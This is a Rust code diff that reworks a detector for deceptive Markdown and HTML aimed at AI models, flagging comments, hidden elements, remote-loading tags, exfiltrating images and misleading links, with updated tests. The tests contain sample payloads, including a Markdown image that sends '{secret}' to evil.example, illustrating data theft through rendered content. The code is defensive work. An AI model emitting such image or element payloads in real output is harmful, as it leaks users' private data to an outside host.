@@ -1,6 +1,8 @@
 //! Markdown and HTML that shows a reader something other than what the model reads: comments
-//! and hidden elements the renderer drops, active elements, remote images (which a client may
-//! fetch with data in the URL), and links whose text names another address than they go to.
+//! and hidden elements the renderer drops, remote images and embedded elements (which a client
+//! may fetch with data in the URL), and links whose text names another address than they go
+//! to. Code spans and fenced blocks are shown as written, so markup inside them is left alone
+//! (a description may well explain HTML).
 
 /// What kinds of deceptive markup `text` holds, each once, in a fixed order.
 pub fn deceptive(text: &str) -> Vec<&'static str> {
@@ -8,6 +10,7 @@ pub fn deceptive(text: &str) -> Vec<&'static str> {
     if !text.contains('<') && !text.contains("](") {
         return found;
     }
+    let text = &without_code(text);
     let lower = text.to_ascii_lowercase();
     if lower.contains("<!--") {
         found.push("HTML comment");
@@ -25,13 +28,8 @@ pub fn deceptive(text: &str) -> Vec<&'static str> {
     {
         found.push("hidden HTML");
     }
-    if [
-        "<script", "<iframe", "<img", "<object", "<embed", "<style", "<meta", "<form", "<svg",
-    ]
-    .iter()
-    .any(|p| lower.contains(p))
-    {
-        found.push("active HTML");
+    if remote_element(&lower) {
+        found.push("remote HTML element");
     }
     let mut remote_image = false;
     let mut misleading_link = false;
@@ -58,6 +56,50 @@ pub fn deceptive(text: &str) -> Vec<&'static str> {
         found.push("link text naming another address");
     }
     found
+}
+
+/// Whether an element that a renderer loads (image, frame, script, media) takes its source
+/// from another host: `<img src="https://...">`.
+fn remote_element(lower: &str) -> bool {
+    const TAGS: [&str; 9] = [
+        "<img", "<iframe", "<script", "<object", "<embed", "<video", "<audio", "<source", "<link",
+    ];
+    TAGS.iter().any(|tag| {
+        lower.match_indices(tag).any(|(at, _)| {
+            let rest = &lower[at + tag.len()..];
+            let inside = &rest[..rest.find('>').unwrap_or(rest.len())];
+            ["src=", "href=", "data=", "srcset="].iter().any(|attr| {
+                inside.match_indices(attr).any(|(i, _)| {
+                    let v = inside[i + attr.len()..].trim_start_matches(['"', '\'', ' ']);
+                    v.starts_with("http://") || v.starts_with("https://") || v.starts_with("//")
+                })
+            })
+        })
+    })
+}
+
+/// The text with code spans and fenced blocks blanked out (they render as written).
+fn without_code(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(open) = rest.find('`') {
+        out.push_str(&rest[..open]);
+        let ticks = rest[open..].chars().take_while(|&c| c == '`').count();
+        let fence = &rest[open..open + ticks];
+        let after = &rest[open + ticks..];
+        match after.find(fence) {
+            Some(close) => {
+                out.push(' ');
+                rest = &after[close + ticks..];
+            }
+            None => {
+                out.push_str(&rest[open..]);
+                rest = "";
+            }
+        }
+    }
+    out.push_str(rest);
+    out
 }
 
 /// The host a piece of text names, when it looks like an address (`https://x.y/..`, `x.y`).
@@ -91,7 +133,14 @@ mod tests {
             deceptive("<span style=\"display: none\">x</span>"),
             ["hidden HTML"]
         );
-        assert_eq!(deceptive("<img src=x onerror=y>"), ["active HTML"]);
+        assert_eq!(
+            deceptive("<img src=\"https://evil.example/p?d=1\">"),
+            ["remote HTML element"]
+        );
+        // Explaining HTML is not deceiving: prose tags, local sources, code spans and blocks.
+        assert!(deceptive("All <script> tags are removed; see <img src=\"/a.png\">").is_empty());
+        assert!(deceptive("Never write comments (`<!-- -->`) in the XML.").is_empty());
+        assert!(deceptive("Example:\n```html\n<!-- x -->\n```\nDone.").is_empty());
         assert_eq!(
             deceptive("![s](https://evil.example/p?d={secret})"),
             ["remote Markdown image"]
